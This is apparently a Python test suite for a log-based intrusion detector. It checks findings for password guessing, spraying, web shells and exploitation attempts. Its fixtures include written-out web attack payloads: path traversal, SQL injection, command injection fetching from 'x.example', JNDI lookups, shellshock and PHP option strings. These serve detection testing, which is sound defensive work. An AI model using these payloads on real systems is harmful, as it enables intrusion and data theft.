from datetime import UTC, datetime, timedelta

import polars as pl
import pytest

from comity.analysis import intrusion
from comity.analysis.finding import Finding, Strength
from comity.analysis.intrusion.patterns import attacks_in, attacks_in_header, decoded
from event_factory import events, every, login, request

START = datetime(2026, 9, 1, 3, 0, tzinfo=UTC)
SECOND, MINUTE, HOUR, DAY = timedelta(seconds=1), timedelta(minutes=1), timedelta(hours=1), timedelta(days=1)
PAGES = [request(START - DAY + MINUTE * n, f"198.51.100.{n % 40}", f"/page{n}.html", size=2000 + n) for n in range(60)]


def found(rows: list[dict], kind: str | None = None) -> list[Finding]:
    return [finding for finding in intrusion.find(events(rows)) if kind in {None, finding.kind}]


def guesses(
    count: int, *, source: str = "203.0.113.5", user: str = "root", start: datetime = START, step: timedelta = SECOND * 5
) -> list[dict]:
    return [login(at, source, user) for at in every(start, step, count)]


def test_guessing_then_success_is_strong() -> None:
    rows = [*guesses(40), login(START + MINUTE * 5, "203.0.113.5", "root", success=True, port=51515)]
    (finding,) = found(rows)
    assert (finding.kind, finding.strength) == ("intrusion.password_guessed", Strength.STRONG)
    assert "40 failed logins" in finding.statement
    (who,) = finding.involved
    assert (who.selector.value, who.role, who.port, who.clock, who.at) == (
        "203.0.113.5",
        "login source",
        51515,
        "year+zone",
        START + MINUTE * 5,
    )
    assert len(finding.traces) == 41
    assert any("inferred" in limit for limit in finding.limits)


def test_a_long_campaign_quotes_a_bounded_choice_and_counts_all() -> None:
    rows = [*guesses(5000), login(START + SECOND * 26000, "203.0.113.5", "root", success=True)]
    (finding,) = found(rows)
    assert "5,000 failed logins" in finding.statement
    assert len(finding.traces) <= 50
    assert finding.traces[0].offset == 0
    assert finding.traces[-1].offset == 5000 * 100


@pytest.mark.parametrize(
    "rows",
    [
        # mistyped twice
        [*guesses(2), login(START + MINUTE, "203.0.113.5", "root", success=True)],
        [*guesses(9, step=SECOND * 20), login(START + MINUTE * 5, "203.0.113.5", "root", success=True)],
        # a login by key cannot have been guessed, though the guessing is there
        # an office behind one address: more logins than failures
        [
            each
            for n in range(60)
            for each in (
                login(START + MINUTE * n, "203.0.113.5", f"user{n % 12}", success=True),
                *([login(START + MINUTE * n + SECOND, "203.0.113.5", f"user{n % 12}")] if n % 3 == 0 else []),
            )
        ],
        # long before
        [*guesses(40), login(START + DAY * 3, "203.0.113.5", "root", success=True)],
        [login(START, "203.0.113.5", "alice", success=True)],
        [],
    ],
)
def test_ordinary_logins_are_not_reported(rows: list[dict]) -> None:
    assert not found(rows, "intrusion.password_guessed")


def test_a_login_by_key_is_not_guessed() -> None:
    rows = [*guesses(40), login(START + MINUTE * 5, "203.0.113.5", "root", success=True, message="Accepted publickey for root")]
    assert not found(rows, "intrusion.password_guessed")


def test_spraying_one_password_over_many_accounts() -> None:
    rows = [login(START + MINUTE * 20 * n, "203.0.113.5", f"person{n}") for n in range(12)]
    rows.append(login(START + HOUR * 5, "203.0.113.5", "person99", success=True))
    (finding,) = found(rows)
    assert finding.strength is Strength.STRONG
    assert {reason.code for reason in finding.reasons} >= {"many_accounts", "login_after"}


def test_guessing_spread_over_a_network() -> None:
    rows = [login(START + SECOND * 30 * n, f"203.0.113.{n % 8 + 1}", "admin") for n in range(40)]
    rows.append(login(START + MINUTE * 30, "203.0.113.77", "admin", success=True))
    (finding,) = found(rows, "intrusion.password_guessed")
    assert finding.strength is Strength.STRONG
    assert "203.0.113.0/24" in finding.statement
    assert finding.involved[0].selector.value == "203.0.113.77"


def test_addresses_of_one_ipv6_network_are_one_source_however_they_are_written() -> None:
    rows = [login(START + SECOND * 7 * n, f"2001:db8::{n + 1:x}", "root") for n in range(40)]
    (finding,) = found([*rows, login(START + HOUR, "2001:db8::ffff", "root", success=True)], "intrusion.password_guessed")
    assert "40 failed logins from 2001:db8::/64 to" in finding.statement
    assert "(year and zone inferred)" in finding.statement


def test_slow_guessing_at_one_account() -> None:
    rows = [login(START + MINUTE * 11 * n, "203.0.113.5", "root") for n in range(80)]
    success = login(START + MINUTE * 11 * 81, "203.0.113.5", "root", success=True)
    (finding,) = found([*rows, success], "intrusion.password_guessed")
    assert finding.strength is Strength.MODERATE
    known = login(START - DAY, "203.0.113.5", "root", success=True)
    assert not found([known, *rows, success], "intrusion.password_guessed")


def test_an_account_guessed_at_by_everybody_shows_little() -> None:
    noise = [login(START + SECOND * 9 * n, f"203.0.113.{n % 4 + 1}", "root") for n in range(80)]
    used = login(START - DAY, "198.51.100.7", "root", success=True)
    (finding,) = found([used, *noise, login(START + HOUR, "198.51.100.99", "root", success=True)], "intrusion.password_guessed")
    assert finding.strength is Strength.WEAK


def test_the_guessed_account_used_from_a_new_address() -> None:
    rows = [login(START - DAY * 5, "198.51.100.1", "alice", success=True), *guesses(30, user="alice")]
    rows.append(login(START + HOUR, "192.0.2.44", "alice", success=True))
    rows.append(login(START + HOUR * 2, "198.51.100.1", "alice", success=True))
    (finding,) = found(rows, "intrusion.password_guessed")
    assert finding.strength is Strength.MODERATE
    assert finding.involved[0].selector.value == "192.0.2.44"
    assert any(reason.against for reason in finding.reasons)


def test_a_source_known_before_is_weaker() -> None:
    rows = [
        login(START - DAY, "203.0.113.5", "root", success=True),
        *guesses(40),
        login(START + MINUTE * 5, "203.0.113.5", "root", success=True),
    ]
    (finding,) = found(rows, "intrusion.password_guessed")
    assert finding.strength is Strength.MODERATE


def test_guessing_without_success_is_weak_and_bounded() -> None:
    rows = [each for n in range(200) for each in guesses(12 + n % 3, source=f"10.{n}.1.1", start=START + MINUTE * n)]
    every_one = found(rows)
    assert len(every_one) == 21
    assert {finding.strength for finding in every_one} == {Strength.WEAK}
    assert any("180 more campaigns" in finding.title for finding in every_one)


def test_repeated_messages_count_as_often_as_they_say() -> None:
    rows = [
        login(START + SECOND * n, "203.0.113.5", "root", message="message repeated 5 times: [ Failed password for root ]") for n in range(4)
    ]
    rows.append(login(START + MINUTE, "203.0.113.5", "root", success=True))
    (finding,) = found(rows)
    assert "20 failed logins" in finding.statement


def test_records_without_a_time_are_ordered_by_their_place() -> None:
    rows = [login(None, "203.0.113.5", "root") for _ in range(30)] + [login(None, "203.0.113.5", "root", success=True)]
    (finding,) = found(rows, "intrusion.password_guessed")
    assert finding.at is None
    assert any("no usable time" in limit for limit in finding.limits)
    assert not found(rows[::-1], "intrusion.password_guessed")


def test_what_followed_the_login() -> None:
    rows = [*guesses(40), login(START + MINUTE * 5, "203.0.113.5", "bob", success=True)]
    act = {"event.action": "sudo_command", "event.outcome": "success", "source.ip": None}
    rows.append(login(START + MINUTE * 6, "", "bob", **act))
    rows.append(login(START + MINUTE * 7, "", "backdoor", **{**act, "event.action": "user_added"}))
    rows.append(login(START + MINUTE * 7, "", "other", **act))
    rows.append(login(START + DAY * 2, "", "late", **{**act, "event.action": "user_added"}))
    (finding,) = found(rows, "intrusion.after_login")
    assert {reason.code for reason in finding.reasons} == {"privilege_used", "user_added"}
    assert len(finding.traces) == 3
    assert not found(rows[41:], "intrusion.after_login")


@pytest.mark.parametrize("action", ["lostpassword", "postpass"])
def test_other_ends_of_the_wordpress_login_page_are_no_logins(action: str) -> None:
    rows = [request(START + SECOND * n, "203.0.113.5", "/wp-login.php", 200, 4321, method="POST") for n in range(20)]
    rows.append(request(START + MINUTE, "203.0.113.5", f"/wp-login.php?action={action}", 302, 0, method="POST"))
    assert not found(rows, "intrusion.password_guessed")


def test_wordpress_guessing_followed_by_a_redirect() -> None:
    rows = [request(START + SECOND * n, "203.0.113.5", "/wp-login.php", 200, 3000, method="POST") for n in range(50)]
    rows.append(request(START + MINUTE * 2, "203.0.113.5", "/wp-login.php", 302, 0, method="POST"))
    (finding,) = found(rows, "intrusion.password_guessed")
    assert "WordPress" in finding.statement


ATTACKS = [
    ("path_traversal", "/download.php?file=../../../../etc/passwd"),
    ("path_traversal", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"),
    ("path_traversal", "/static/..%252f..%252f..%252fetc%252fpasswd"),
    ("path_traversal", "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini"),
    ("path_traversal", "/icons/%2e%2e/%2e%2e/x"),
    ("path_traversal", "/view?page=..%5c..%5cwindows%5cwin.ini"),
    ("path_traversal", "/view?page=/etc/passwd"),
    ("sql_injection", "/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--"),
    ("sql_injection", "/item?id=1+union+select+user,pass+from+users"),
    ("sql_injection", "/item?id=1%27%20OR%20%271%27=%271"),
    ("sql_injection", "/item?id=1 and 1=1"),
    ("sql_injection", "/item?id=1%20AND%20SLEEP(5)"),
    ("sql_injection", "/item?id=1%3BDROP%20TABLE%20users"),
    ("command_injection", "/ping?host=8.8.8.8;cat%20/etc/hostname"),
    ("command_injection", "/ping?host=1|id"),
    ("command_injection", "/ping?host=$(wget%20http://x.example/a)"),
    ("php_options", "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
    ("php_options", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1"),
    ("code_injection", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    ("code_injection", "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array"),
    ("code_injection", "/x.php?page=php://filter/convert.base64-encode/resource=index"),
    ("secret_file", "/.env"),
    ("secret_file", "/.git/config"),
    ("secret_file", "/old/wp-config.php.bak"),
    ("web_shell", "/images/c99.php"),
    ("web_shell", "/uploads/x.php?cmd=whoami"),
    ("jndi_lookup", "/?x=${jndi:ldap://198.51.100.9/a}"),
    ("jndi_lookup", "/?x=$%7B$%7Blower:j%7Dndi:$%7Blower:l%7Ddap://198.51.100.9/a%7D"),
    ("shellshock", "/cgi-bin/status?()%20{%20:;};%20/bin/ls"),
]
HARMLESS = [
    "/", "/index.php?id=5&name=cat", "/blog/../images/x.png", "/search?q=trade+union+select+committee", "/search?q=cats+and+dogs",
    "/a?b=1&id=7&ls=2", "/p;jsessionid=AB12", "/docs/etc/passwd-explained.html", "/windows/system32-errors.html", "/?q=100%25", "/%E4%BD%A0%E5%A5%BD",
    "/scripts//%22$%7BWEBLOC%7D/view.php?file=$%7Blinkto%7D%5C%22", "/files/select-from-menu.html", "/environment", "/.well-known/security.txt",
    "/articles/how-to-select-a-union.php", "/shell-scripting.html", "/cmd/reference.html", "/?redirect=https://example.org/a?b=c", "/x?a=1|2|3",
    "/t?text=it's or isn't", "/list?order=1&and=2", "/wiki/SQL_injection", "/code?lang=php&c=cat", "/?x=a;b;c", "/search?q=drop+table+lamp",
]  # fmt: skip


@pytest.mark.parametrize(("code", "target"), ATTACKS)
def test_attacks_are_recognized(code: str, target: str) -> None:
    assert code in {attack.code for attack in attacks_in(target)}
    (finding,) = found([*PAGES, *[request(START, "203.0.113.5", target, 404, 300)] * 5])
    assert (finding.kind, finding.strength) == ("intrusion.exploitation_attempted", Strength.WEAK)


@pytest.mark.parametrize("target", HARMLESS)
def test_harmless_targets_are_not_attacks(target: str) -> None:
    assert attacks_in(target) == ()
    assert found([*PAGES, request(START, "203.0.113.5", target, 200, 9876)]) == []


def test_lone_probes_are_counted_together() -> None:
    (finding,) = found([*PAGES, *[request(START + DAY * n, f"203.0.113.{n}", "/.env", 404, 300) for n in range(30)]])
    assert finding.strength is Strength.WEAK
    assert "30 requests from 30 addresses" in finding.statement
    assert finding.involved == ()
    assert len(finding.traces) == 30


def test_headers_are_looked_at() -> None:
    assert attacks_in_header("() { :; }; /bin/bash -c id")
    assert attacks_in_header("${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}")
    assert not attacks_in_header("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)")
    (finding,) = found([*PAGES, request(START, "203.0.113.5", "/", 200, 5000, agent="${jndi:ldap://198.51.100.9/a}")])
    assert finding.strength is Strength.WEAK


SCANNED = ("/.env", "/.git/config", "/wp-config.php.bak", "/id_rsa", "/c99.php", "/cgi-bin/.%2e/.%2e/etc/passwd", "/x.php?p=php://input")


@pytest.mark.parametrize(
    "size",
    [lambda _: 5120, lambda target: 5120 + 2 * len(target), lambda target: 5120 + 37 * len(target) % 200],
    ids=["the same page", "a page that repeats the target", "a page that varies a little"],
)
def test_a_site_that_answers_anything_with_success_shows_nothing(size) -> None:
    """The log holds nothing but the scan, so that no harmless request shows what the site ordinarily answers."""
    found_here = found([request(START + SECOND * n, "203.0.113.5", target, 200, size(target)) for n, target in enumerate(SCANNED)])
    assert [finding.strength for finding in found_here] == [Strength.WEAK]


def test_one_file_in_many_spellings_is_no_general_answer() -> None:
    spellings = [f"/{place}/{dots * 4}etc/passwd" for place in ("cgi-bin", "icons", "static") for dots in (".%2e/", "%2e%2e/", ".%252e/")]
    (finding,) = found([*PAGES, *[request(START + SECOND * n, "203.0.113.5", each, 200, 1890) for n, each in enumerate(spellings)]])
    assert finding.strength is Strength.STRONG


def test_pages_that_vary_cannot_be_measured() -> None:
    pages = [request(START - HOUR, f"198.51.100.{n}", "/?page=2", 200, 30_000 + 90 * n) for n in range(9)]
    (finding,) = found([*pages, request(START, "203.0.113.5", "/?s=<?php+echo+1", 200, 31_100)])
    assert finding.strength is Strength.MODERATE
    assert "cannot be told" in finding.statement


def test_an_answer_of_its_own_is_strong() -> None:
    target = "/download.php?file=..%2f..%2f..%2f..%2fetc%2fpasswd"
    rows = [*PAGES, *[request(START + SECOND * n, "203.0.113.5", f"{target}{n}", 404, 300) for n in range(5)]]
    rows += [
        request(START - HOUR, "198.51.100.3", "/download.php?file=a.pdf", 200, 50_000),
        request(START + MINUTE, "203.0.113.5", target, 200, 1843),
    ]
    (finding,) = found(rows)
    assert (finding.kind, finding.strength) == ("intrusion.exploitation_answered", Strength.STRONG)
    assert "6 requests" in finding.statement
    assert "1,843 bytes" in finding.statement
    assert {"answer_differs", "refused"} <= {reason.code for reason in finding.reasons}
    assert finding.involved[0].role == "exploitation source"


@pytest.mark.parametrize(
    ("size", "others", "code"),
    [
        # a one-page application answers anything with the same page
        (777, [request(START - HOUR, "198.51.100.9", f"/route{n}", 200, 777) for n in range(5)], "general_answer"),
        # the page ignores the parameter
        (888, [request(START - HOUR, "198.51.100.9", "/view", 200, 888)], "ordinary_answer"),
    ],
)
def test_the_answer_anybody_gets_is_weak(size: int, others: list[dict], code: str) -> None:
    (finding,) = found([*PAGES, *others, *[request(START, "203.0.113.5", "/view?page=../../../../etc/passwd", 200, size)] * 5])
    assert (finding.kind, finding.strength) == ("intrusion.exploitation_attempted", Strength.WEAK)
    assert code in {reason.code for reason in finding.reasons if reason.against}


def test_answers_that_cannot_be_measured_are_moderate() -> None:
    varied = [request(START - HOUR, "198.51.100.9", f"/item?id={n}", 200, 1000 + n) for n in range(9)]
    (one,) = found([*PAGES, *varied, request(START, "203.0.113.5", "/item?id=1+union+select+1,2--", 200, 1500)])
    (other,) = found([*PAGES, request(START, "203.0.113.5", "/view?page=/etc/passwd", 200, None)])
    assert (one.strength, other.strength) == (Strength.MODERATE, Strength.MODERATE)
    spread = [request(START - HOUR, "198.51.100.9", f"/item?id={n}", 200, 1000 + 10 * n) for n in range(9)]
    (within,) = found([*PAGES, *spread, request(START, "203.0.113.5", "/item?id=../../../../etc/passwd", 200, 1055)])
    (outside,) = found([*PAGES, *spread, request(START, "203.0.113.5", "/item?id=../../../../etc/passwd", 200, 1843)])
    assert (within.strength, outside.strength) == (Strength.MODERATE, Strength.STRONG)


def test_an_uploaded_script_that_is_used() -> None:
    rows = [*PAGES, request(START, "203.0.113.5", "/admin/upload.php", 200, 400, method="POST")]
    rows += [request(START + MINUTE * (n + 1), "203.0.113.5", "/uploads/2026/pic.php", 200, 100 + n, method="POST") for n in range(6)]
    (finding,) = found(rows, "intrusion.web_shell")
    assert finding.strength is Strength.STRONG
    assert "/uploads/2026/pic.php" in finding.statement
    public = [request(START + SECOND * n, f"192.0.2.{n}", "/uploads/2026/pic.php", 200, 100) for n in range(9)]
    assert not found(rows + public, "intrusion.web_shell")
    assert not found(rows[:60] + rows[61:], "intrusion.web_shell")


@pytest.mark.parametrize(
    "target",
    ["/ajax.php?cmd=cat&id=7", "/nagios/cgi-bin/cmd.cgi?cmd_typ=2", "/de/mini.php", "/tools/shell.php", "/files/download.php?cmd=ls"],
)
def test_programs_with_names_like_shells_are_not_called_shells(target: str) -> None:
    rows = [*PAGES, *[request(START + MINUTE * n, "203.0.113.5", target, 200, 2222) for n in range(3)]]
    assert all(finding.strength is Strength.WEAK for finding in found(rows))


def test_programs_of_a_sites_extensions_are_not_uploads() -> None:
    rows = [*PAGES, request(START, "203.0.113.5", "/wp-admin/async-upload.php", 200, 300, method="POST")]
    rows.append(request(START + MINUTE, "203.0.113.5", "/wp-content/plugins/contact/images/captcha.php", 200, 812))
    assert not found(rows)


def test_a_campaign_is_one_finding_per_source() -> None:
    rows = [
        *PAGES,
        *[request(START + SECOND * n, f"203.0.113.{5 + n % 2}", f"/x{n}?id=1+union+select+{n},2--", 404, 300) for n in range(4000)],
    ]
    every_one = found(rows)
    assert len(every_one) == 2
    assert all("2,000 requests" in finding.statement and len(finding.traces) == 50 for finding in every_one)


def test_two_runs_agree_and_the_order_of_rows_does_not_matter() -> None:
    rows = [
        *PAGES,
        *guesses(40),
        login(START + MINUTE * 5, "203.0.113.5", "root", success=True),
        request(START, "203.0.113.5", "/.env", 200, 300),
    ]
    once = intrusion.find(events(rows))
    frame = events(rows).collect()
    again = intrusion.find(frame.sample(fraction=1, shuffle=True, seed=7).lazy())
    assert once == again
    assert len(once) == 2


def test_decoding_is_bounded() -> None:
    assert decoded("%25" * 2000 + "2e") != ""
    assert decoded("%252e%252e%252f") == "../"
    assert decoded("/a?b=%2527") == "/a?b='"
    assert decoded("%zz%") == "%zz%"
    for hostile in (
        "(" * 4000,
        "../" * 1400,
        "${" * 2000,
        "union " * 700,
        "' or " * 800,
        "() { " * 800,
        ";" * 4000,
        "a=" * 2000 + "'",
        "%u002e" * 600,
    ):
        attacks_in("/?" + hostile)


def test_empty_tables() -> None:
    assert intrusion.find(events([])) == ()
    assert intrusion.find(pl.concat([events([]), events([])])) == ()
